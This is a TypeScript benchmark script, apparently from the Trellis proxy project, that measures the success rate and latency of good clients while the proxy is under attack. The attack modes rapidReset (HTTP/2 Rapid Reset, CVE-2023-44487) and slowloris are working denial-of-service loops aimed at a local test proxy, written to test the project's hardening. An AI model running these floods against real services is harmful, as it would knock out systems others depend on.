/**
 * Good clients during an attack on the Trellis proxy (issue #10, findings 1 and 8): what share of
 * their requests succeed, and at what latency, while one attacker floods the same listener.
 *
 *   backend   a node HTTP/1.1 server answering 200 "ok" after 5 ms (a service doing some work)
 *   proxy     `trellis proxy` (bin/trellis, as users run it), outbound listener, pinned to core 0
 *   good      open loop on core 1: HTTP/1.1 keep-alive at --rate rps and HTTP/2 (one session) at
 *             --rate rps, latency from the scheduled send time
 *   attacker  on core 1, one of:
 *     none          no attack (the baseline)
 *     rapid-reset   HTTP/2 connections that open streams and reset them at once, in batches of
 *                   100 per turn, reconnecting whenever the proxy closes one (CVE-2023-44487)
 *     slowloris     --slow-conns HTTP/1.1 connections that send a request head one line every
 *                   10 s and never finish it, reopened when closed
 *
 *   npm run bench:attack [-- --seconds 10] [--rate 200] [--slow-conns 2000]
 *                        [--compare PATH/bin/trellis.mjs] [--trellis-bin bin/trellis.mjs]
 *
 * --compare runs the same scenarios against another checkout's proxy in the same run (an A/B:
 * e.g. the commit before the hardening issue), printed side by side; --trellis-bin bin/trellis.mjs
 * runs this checkout with node's defaults too, so the two differ in code alone. The backend, the good
 * clients and the attacker share core 1, so the attacker's rate is what one core gives it.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { FakeAds } from '../src/proxy/testing/fake-ads.js';
import {
  edsCluster,
  endpoints,
  httpListener,
  routeConfig,
  routeTo,
  virtualHost,
} from '../src/proxy/testing/resources.js';
import {
  children,
  freePort,
  quantile,
  rssMb,
  start,
  startTrellisProxy,
  stop,
  waitForPort,
} from './support.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const HOST = 'bench:9080';

// ---- child modes: backend, good clients, attackers ----

async function backend(port: number): Promise<void> {
  const server = http.createServer((req, res) => {
    req.resume();
    setTimeout(() => {
      res.writeHead(200, { 'content-type': 'text/plain', 'content-length': '2' });
      res.end('ok');
    }, 5);
  });
  server.keepAliveTimeout = 60_000;
  await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
}

interface GoodResult {
  sent: number;
  ok: number;
  p50: number;
  p99: number;
}

/** Open loop over HTTP/1.1 keep-alive and HTTP/2 at `rate` each; prints one JSON per protocol. */
async function good(port: number, rate: number, seconds: number): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
  const session = http2.connect(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  const total = Math.round(rate * seconds);
  const run = (send: (done: (ok: boolean) => void) => void): Promise<GoodResult> =>
    new Promise((resolve) => {
      const latencies: number[] = [];
      let sent = 0;
      let finished = 0;
      let ok = 0;
      const t0 = performance.now() + 20;
      const fire = (scheduled: number) => {
        let settled = false;
        // A request with no answer after 10 s counts as failed (the attack may stall it).
        const timer = setTimeout(() => done(false), 10_000);
        const done = (success: boolean) => {
          if (settled) return;
          settled = true;
          clearTimeout(timer);
          if (success) {
            ok++;
            latencies.push(performance.now() - scheduled);
          }
          if (++finished === total) {
            latencies.sort((a, b) => a - b);
            resolve({ sent: total, ok, p50: quantile(latencies, 0.5), p99: quantile(latencies, 0.99) });
          }
        };
        send(done);
      };
      const tick = () => {
        const now = performance.now();
        while (sent < total && t0 + (sent * 1000) / rate <= now) fire(t0 + (sent++ * 1000) / rate);
        if (sent < total) setTimeout(tick, 1);
      };
      setTimeout(tick, 20);
    });
  const [h1, h2] = await Promise.all([
    run((done) => {
      const req = http.request(
        { host: '127.0.0.1', port, path: '/good', headers: { host: HOST }, agent },
        (res) => {
          res.resume();
          res.on('end', () => done(res.statusCode === 200));
          res.on('error', () => done(false));
        },
      );
      req.on('error', () => done(false));
      req.end();
    }),
    run((done) => {
      try {
        const s = session.request({ ':path': '/good', ':authority': HOST });
        s.on('response', (h) => {
          s.resume();
          s.on('end', () => done(h[':status'] === 200));
        });
        s.on('error', () => done(false));
        s.on('close', () => done(false));
      } catch {
        done(false);
      }
    }),
  ]);
  agent.destroy();
  session.destroy();
  process.stdout.write(JSON.stringify({ h1, h2 }) + '\n');
}

/** Opens and resets streams as fast as one core allows until killed; prints counts on SIGTERM. */
function rapidReset(port: number): void {
  let streams = 0;
  let connections = 0;
  const connect = () => {
    connections++;
    const c = http2.connect(`http://127.0.0.1:${port}`);
    c.on('error', () => undefined);
    c.on('close', () => setImmediate(connect));
    const burst = () => {
      if (c.destroyed || c.closed) return;
      for (let i = 0; i < 100; i++) {
        try {
          const s = c.request({ ':path': '/attack', ':authority': HOST });
          s.on('error', () => undefined);
          s.close(http2.constants.NGHTTP2_CANCEL);
          streams++;
        } catch {
          return;
        }
      }
      setImmediate(burst);
    };
    c.on('connect', burst);
  };
  connect();
  process.on('SIGTERM', () => {
    process.stdout.write(JSON.stringify({ streams, connections }) + '\n');
    process.exit(0);
  });
}

/** Holds `n` connections with request heads that never end; prints counts on SIGTERM. */
function slowloris(port: number, n: number): void {
  let connections = 0;
  let open = 0;
  const connect = () => {
    connections++;
    const c = net.connect(port, '127.0.0.1');
    let timer: NodeJS.Timeout | undefined;
    c.on('connect', () => {
      open++;
      c.write(`GET /slow HTTP/1.1\r\nHost: ${HOST}\r\n`);
      timer = setInterval(() => c.write(`x-slow-${Date.now()}: 1\r\n`), 10_000);
    });
    c.on('error', () => undefined);
    c.on('close', () => {
      if (timer) {
        clearInterval(timer);
        open--;
      }
      setTimeout(connect, 100);
    });
  };
  for (let i = 0; i < n; i++) setTimeout(connect, i);
  process.on('SIGTERM', () => {
    process.stdout.write(JSON.stringify({ connections, open }) + '\n');
    process.exit(0);
  });
}

const mode = process.argv[2];
if (mode === '--backend') {
  await backend(Number(process.argv[3]));
} else if (mode === '--good') {
  await good(Number(process.argv[3]), Number(process.argv[4]), Number(process.argv[5]));
  process.exit(0);
} else if (mode === '--rapid-reset') {
  rapidReset(Number(process.argv[3]));
} else if (mode === '--slowloris') {
  slowloris(Number(process.argv[3]), Number(process.argv[4]));
} else {
  await main();
}

// ---- the benchmark ----

async function main(): Promise<void> {
  const { values: flags } = parseArgs({
    options: {
      seconds: { type: 'string', default: '10' },
      rate: { type: 'string', default: '200' },
      'slow-conns': { type: 'string', default: '2000' },
      compare: { type: 'string' },
      'trellis-bin': { type: 'string' },
    },
  });
  const seconds = Number(flags.seconds);
  const rate = Number(flags.rate);
  const self = [path.join(ROOT, 'node_modules/tsx/dist/cli.mjs'), import.meta.filename];

  const backendPort = await freePort();
  const backendProc = start(1, process.execPath, [...self, '--backend', String(backendPort)]);
  await waitForPort(backendPort);

  const ads = await FakeAds.start();
  const cluster = 'outbound|9080||bench.default.svc.cluster.local';
  ads.set('CDS', [edsCluster(cluster)]);
  ads.set('EDS', [endpoints(cluster, [{ port: backendPort }])]);
  ads.set('LDS', [httpListener(9080)]);
  ads.set('RDS', [routeConfig('9080', [virtualHost('bench', [HOST], [routeTo(cluster)])])]);

  const proxies: { name: string; bin: string }[] = [
    { name: 'this checkout', bin: path.join(ROOT, 'bin/trellis') },
  ];
  if (flags.compare)
    proxies.push({ name: path.relative(process.cwd(), flags.compare) || flags.compare, bin: flags.compare });

  interface Row {
    proxy: string;
    attack: string;
    h1: GoodResult;
    h2: GoodResult;
    attacker: string;
    rss: number;
  }
  const rows: Row[] = [];
  for (const p of proxies) {
    for (const attack of ['none', 'rapid-reset', 'slowloris'] as const) {
      const ports = { admin: await freePort(), outbound: await freePort(), inbound: await freePort() };
      const proxy = await startTrellisProxy({
        bin: p.bin,
        xds: ads.address,
        workload: 'bench',
        ports,
        env: { TRELLIS_LOG_LEVEL: 'error' },
      });
      let attacker: ChildProcess | undefined;
      if (attack === 'rapid-reset')
        attacker = start(1, process.execPath, [...self, '--rapid-reset', String(ports.outbound)], {}, 'pipe');
      if (attack === 'slowloris')
        attacker = start(
          1,
          process.execPath,
          [...self, '--slowloris', String(ports.outbound), flags['slow-conns']],
          {},
          'pipe',
        );
      // Let the attack ramp up before the good clients start.
      if (attacker) await new Promise((r) => setTimeout(r, 2000));
      const goodProc = spawn(
        process.execPath,
        [...self, '--good', String(ports.outbound), String(rate), String(seconds)],
        {
          stdio: ['ignore', 'pipe', 'inherit'],
        },
      );
      const result = JSON.parse(await collect(goodProc)) as { h1: GoodResult; h2: GoodResult };
      const rss = rssMb(proxy.pid);
      let attackerSummary = '-';
      if (attacker) {
        const out = collect(attacker);
        attacker.kill('SIGTERM');
        const counts = JSON.parse((await out) || '{}') as Record<string, number>;
        attackerSummary =
          attack === 'rapid-reset'
            ? `${counts.streams ?? '?'} streams on ${counts.connections ?? '?'} connections`
            : `${counts.open ?? '?'} held open (${counts.connections ?? '?'} opened)`;
      }
      await stop(proxy);
      rows.push({ proxy: p.name, attack, ...result, attacker: attackerSummary, rss });
      process.stderr.write(`bench:attack: ${p.name}, ${attack} done\n`);
    }
  }
  await stop(backendProc);
  await ads.close();
  for (const c of children) c.kill('SIGKILL');

  const ms = (v: number) => v.toFixed(1);
  const pct = (r: GoodResult) => `${((100 * r.ok) / r.sent).toFixed(1)}%`;
  const header = [
    'proxy',
    'attack',
    'h1 ok',
    'h1 p50 ms',
    'h1 p99 ms',
    'h2 ok',
    'h2 p50 ms',
    'h2 p99 ms',
    'proxy RSS MB',
    'attacker',
  ];
  const table = rows.map((r) => [
    r.proxy,
    r.attack,
    pct(r.h1),
    ms(r.h1.p50),
    ms(r.h1.p99),
    pct(r.h2),
    ms(r.h2.p50),
    ms(r.h2.p99),
    r.rss.toFixed(0),
    r.attacker,
  ]);
  const widths = header.map((h, i) => Math.max(h.length, ...table.map((row) => row[i]!.length)));
  const line = (cells: string[]) => `| ${cells.map((c, i) => c.padEnd(widths[i]!)).join(' | ')} |`;
  console.log(`good clients: ${rate} rps HTTP/1.1 + ${rate} rps HTTP/2 for ${seconds} s each scenario`);
  console.log(line(header));
  console.log(line(widths.map((w) => '-'.repeat(w))));
  for (const row of table) console.log(line(row));
  process.exit(0);
}

async function collect(child: ChildProcess): Promise<string> {
  let out = '';
  child.stdout?.on('data', (d: Buffer) => (out += d.toString()));
  await new Promise<void>((r) => child.once('exit', () => r()));
  return out.trim();
}
